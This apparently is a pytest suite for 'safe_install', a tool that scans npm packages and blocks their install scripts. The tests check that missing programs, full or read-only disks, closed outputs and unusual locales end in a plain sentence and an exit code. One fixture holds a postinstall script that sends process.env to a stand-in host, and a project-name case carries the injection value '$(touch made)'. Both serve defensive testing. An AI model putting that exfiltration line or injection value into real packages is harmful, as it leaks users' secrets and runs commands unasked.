"""Bad surroundings: no npm, no disk, no reader, no Unicode. Each ends as a sentence and a number, never as a traceback."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

import pytest

from safe_install import __version__
from safe_install.run import paths
from tests.test_bad_input import a_sentence, refused
from tests.world import World

pytestmark = [pytest.mark.npm, pytest.mark.semgrep]

STEALS = {
    "install.js": "require('https').request('https://collect.example.invalid').end(JSON.stringify(process.env)) // é中\n"
}
COMMANDS = ("install", "ci", "uninstall", "update", "dedupe", "scan", "approve", "deny")
Mount = Callable[..., None]


@pytest.fixture
def world(world: World) -> World:
    """Add to the project a plain package and one whose script, command and file hold letters beyond ASCII."""
    plain = world.registry.publish("plain", "1.0.0", {"index.js": "1", "big.js": "x" * 300_000})
    steals = world.registry.publish("steals", "1.0.0", STEALS, scripts={"postinstall": "node install.js é中"})
    world.lock(plain, steals)
    return world


@pytest.fixture
def mount() -> Iterator[Mount]:
    """Mount something for one test; skip where that is not allowed."""
    mounted: list[Path] = []

    def do(where: Path, *words: str) -> None:
        where.mkdir(exist_ok=True)
        ran = subprocess.run(["mount", *words, str(where)], capture_output=True, text=True, check=False)  # noqa: S607
        if ran.returncode != 0:
            pytest.skip(f"mounting is not allowed here: {ran.stderr.strip()}")
        if where not in mounted:
            mounted.append(where)

    if sys.platform != "linux" or os.geteuid() != 0:
        pytest.skip("only root on Linux can mount a full or a read-only disk")
    yield do
    for where in reversed(mounted):
        subprocess.run(["umount", "--lazy", str(where)], check=True)  # noqa: S607


def only(folder: Path, *programs: str, **stubs: str) -> str:
    """Make a PATH that has these programs of this machine and these stubs, and nothing else."""
    folder.mkdir()
    for name in programs:
        found = shutil.which(name)
        assert found is not None
        (folder / name).symlink_to(os.path.realpath(found))
    for name, text in stubs.items():
        (folder / name).write_text(text)
        (folder / name).chmod(0o755)
    return str(folder)


def process(world: World, shell: str, env: Mapping[str, str] | None = None) -> subprocess.CompletedProcess[bytes]:
    """Run a line of bash in the project, where ``$safe`` is the program."""
    given = {**os.environ, "safe": f"{sys.executable} -m safe_install", **(env or {})}
    return subprocess.run(["bash", "-c", shell], cwd=world.folder, env=given, capture_output=True, check=False)  # noqa: S607


# ------------------------------------------------------------------ programs


@pytest.mark.parametrize(("programs", "missing"), [(["node"], "npm"), ([], "node")])
def test_without_npm_there_is_a_sentence(
    world: World, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, programs: list[str], missing: str
) -> None:
    monkeypatch.setenv("PATH", only(tmp_path / "bin", *programs))
    monkeypatch.setattr(paths, "SYSTEM_PATH", ())  # where it would be found without any PATH
    said = refused(world, "ci")
    assert said.code == 1
    assert a_sentence(said)[0] == f"{missing} was not found."
    assert "Install Node.js" in a_sentence(said)[1]


@pytest.mark.parametrize(("version", "why"), [("9.9.4", "too old"), ("13.0.0", "not known to this version")])
def test_an_npm_that_we_do_not_know_is_not_used(
    world: World, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, version: str, why: str
) -> None:
    npm = tmp_path / "npm"
    (npm / "bin").mkdir(parents=True)
    (npm / "package.json").write_text(json.dumps({"name": "npm", "version": version}))
    (npm / "bin" / "npm-cli.js").write_text("throw new Error('started')\n")
    (npm / "bin" / "npm-cli.js").chmod(0o755)
    path = only(tmp_path / "bin", "node")
    (tmp_path / "bin" / "npm").symlink_to(npm / "bin" / "npm-cli.js")
    monkeypatch.setenv("PATH", path)
    said = refused(world, "ci")
    assert said.code == 1
    assert f"npm {version}" in a_sentence(said)[0]
    assert why in a_sentence(said)[0]
    assert "npm install --global npm@" in a_sentence(said)[1]


@pytest.mark.parametrize(
    ("stubs", "sentence"),
    [
        ({}, "semgrep is not installed"),
        ({"semgrep": "#!/bin/sh\necho 1.0.0\n"}, "semgrep 1.0.0 is not supported"),
        ({"semgrep": "#!/bin/sh\nexit 1\n"}, "semgrep of unknown version is not supported"),
    ],
)
def test_without_a_semgrep_nothing_is_judged(
    world: World, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, stubs: dict[str, str], sentence: str
) -> None:
    monkeypatch.setenv("PATH", only(tmp_path / "bin", "node", "npm", **stubs))
    monkeypatch.setattr(sys, "executable", str(tmp_path / "elsewhere" / "python"))
    said = refused(world, "ci")
    assert said.code == 1
    assert sentence in a_sentence(said)[0]
    assert "python -m pip install 'semgrep" in a_sentence(said)[1]


# ------------------------------------------------------------------ the disk


def test_a_full_disk_under_the_cache(world: World, mount: Mount, tmp_path: Path) -> None:
    mount(tmp_path / "cache", "-t", "tmpfs", "-o", "size=64k,mode=0700", "tmpfs")
    (tmp_path / "cache" / "filler").write_bytes(bytes(60_000))
    world.lock(world.registry.publish("random", "1.0.0", {"data.js": os.urandom(200_000).hex()}))
    said = refused(world, "ci")
    assert said.code == 1
    assert "the disk is full" in a_sentence(said)[0]
    assert "make room" in a_sentence(said)[1]
    assert sorted(path.name for path in (tmp_path / "cache").rglob("*") if path.is_file()) in (
        ["filler"],
        ["filler", "remembered.sqlite"],
    )


def test_a_full_disk_under_the_project(
    world: World, mount: Mount, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    mount(tmp_path / "small", "-t", "tmpfs", "-o", "size=128k", "tmpfs")
    small = World(tmp_path / "small", world.registry)
    monkeypatch.chdir(small.folder)
    small.lock(world.registry.publish("plain", "1.0.0", {"index.js": "1", "big.js": "x" * 300_000}))
    small.write("node_modules/old/index.js", "old")
    for command, kept in (("ci", ["node_modules/old"]), ("install", [])):
        before = small.tree("package.json", "package-lock.json", *kept)
        said = small.run(command)
        assert said.code in {1, 12}, said
        assert "ENOSPC" in said.out or "disk full" in said.err, said
        assert "Traceback" not in said.err
        assert small.tree("package.json", "package-lock.json", *kept) == before
        assert not small.has("node_modules/plain")


@pytest.mark.parametrize("words", [("ci",), ("install",), ("install", "plain")])
def test_a_read_only_project(world: World, mount: Mount, words: tuple[str, ...]) -> None:
    world.lock(world.registry.publish("plain", "1.0.0", {"index.js": "1"}))
    world.write("node_modules/old/index.js", "old")
    mount(world.folder, "--bind", str(world.folder))
    mount(world.folder, "-o", "remount,ro,bind")
    before = world.tree(".")
    os.chdir(world.folder)
    said = world.run(*words)
    assert said.code in {1, 12}
    assert "read-only" in (said.err + said.out).lower()
    assert "Traceback" not in said.err
    assert world.tree(".") == before
    assert world.run("scan").code == 0


def test_a_read_only_cache(world: World, mount: Mount, tmp_path: Path) -> None:
    mount(tmp_path / "cache", "-t", "tmpfs", "-o", "ro,mode=0700", "tmpfs")
    said = refused(world, "ci")
    assert said.code == 1
    assert "cannot write to the cache" in a_sentence(said)[0]
    assert "SAFE_INSTALL_CACHE" in a_sentence(said)[1]


def test_a_directory_that_is_gone(world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    gone = tmp_path / "gone"
    gone.mkdir()
    monkeypatch.chdir(gone)
    gone.rmdir()
    said = world.run("ci")
    assert said.code == 1
    assert a_sentence(said)[0] == "The system refuses: No such file or directory."


# ------------------------------------------------------------------ readers


@pytest.mark.parametrize("shell", ["$safe scan --json | head -1", "$safe scan | true", "$safe --help | true"])
def test_a_reader_that_leaves_early_sees_no_traceback(world: World, shell: str) -> None:
    assert b"Traceback" not in process(world, shell).stderr
    assert b"Exception" not in process(world, shell).stderr


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="there is no /dev/full here")
@pytest.mark.parametrize("flag", ["", "--json"])
def test_a_report_that_cannot_be_written_is_a_sentence(world: World, flag: str) -> None:
    ran = process(world, f"$safe scan {flag} > /dev/full")
    assert ran.returncode == 1
    assert b"safe-install: The system refuses: No space left on device" in ran.stderr
    assert b"Traceback" not in ran.stderr
    assert b"Exception" not in ran.stderr


def test_a_closed_output_keeps_the_exit_code(world: World) -> None:
    assert process(world, "$safe scan >&-").returncode == 11
    assert process(world, "$safe scan 2>&-").returncode == 11


@pytest.mark.parametrize(
    "env",
    [
        {"LC_ALL": "C"},
        {"LC_ALL": "POSIX", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"},
        {"PYTHONIOENCODING": "ascii"},
        {"PYTHONIOENCODING": "latin-1"},
        {"TERM": "dumb"},
        {"NO_COLOR": "1"},
        {"COLUMNS": "40"},
        {"COLUMNS": "0"},
        {"COLUMNS": "wide"},
    ],
)
def test_the_report_is_readable_anywhere(world: World, env: dict[str, str]) -> None:
    ran = process(world, "$safe scan", env)
    assert ran.returncode == 11, ran.stderr
    assert b"BLOCK     steals 1.0.0 postinstall" in ran.stdout
    assert b"\x1b" not in ran.stdout
    assert b"Traceback" not in ran.stderr
    if env.get("COLUMNS") == "40":
        wide = [line for line in ran.stdout.decode().splitlines() if len(line) > int(env["COLUMNS"])]
        assert [line.strip() for line in wide] == [
            "safe-install deny steals  # to install it and never run its scripts"
        ]
    if env.get("PYTHONIOENCODING") == "ascii":
        assert ran.stdout.isascii()


@pytest.mark.parametrize("words", ["scan nowhere-é.tgz", "ci --é", "scan $'nowhere\\xff.tgz'", "$'no\\xff@1.0.0'"])
@pytest.mark.parametrize(
    "env", [{"LC_ALL": "POSIX", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"}, {"LC_ALL": "C.UTF-8"}]
)
def test_words_in_any_encoding_are_told_back(world: World, words: str, env: dict[str, str]) -> None:
    ran = process(world, f"$safe {words}", env)
    assert ran.returncode == 2
    assert ran.stderr.startswith(b"safe-install: ")
    assert b"Traceback" not in ran.stderr


@pytest.mark.parametrize(
    "name",
    ["with space", "quo'te\"s", "naïve-中文", "new\nline", "$(touch made)", "-dash", "percent%20#x", "back\\slash"],
)
def test_a_project_may_be_called_anything(world: World, name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    (world.folder / name).mkdir()
    odd = World(world.folder / name, world.registry)
    monkeypatch.chdir(odd.folder)
    odd.lock(world.registry.publish("plain", "1.0.0", {"index.js": "1"}))
    world.registry.publish("two", "1.0.0", {"index.js": "2"})
    said = odd.run("ci")
    assert said.code == 0
    assert len(said.out.splitlines()) == 3
    assert odd.run("two").code == 0
    assert odd.read("node_modules/two/index.js") == "2"
    assert not odd.has("made")


# ------------------------------------------------------------------ help


TELLING = ("rules", "explain", "completion")


@pytest.mark.parametrize("words", [("--help",), *((command, "--help") for command in (*COMMANDS, *TELLING))])
def test_help_is_whole_and_needs_nothing(world: World, words: tuple[str, ...], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", "")
    said = world.run(*words)
    assert said.code == 0
    assert said.err == ""
    assert "Usage: safe-install" in said.out
    assert "..." not in "\n".join(line for line in said.out.splitlines()[1:] if "ARGS" not in line and "<" not in line)


def test_the_version_needs_nothing(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", "")
    assert world.run("--version") == (said := world.run("--version"))
    assert (said.code, said.out, said.err) == (0, f"safe-install {__version__}\n", "")


def test_completion_is_shown_for_a_shell_and_completes_our_commands(world: World) -> None:
    ran = process(world, "$safe completion bash")
    assert ran.returncode == 0
    assert b"complete -o default -F" in ran.stdout
    asked = "COMP_WORDS='safe-install sc' COMP_CWORD=1 _SAFE_INSTALL_COMPLETE=complete_bash $safe"
    assert process(world, asked).stdout.split() == [b"scan"]
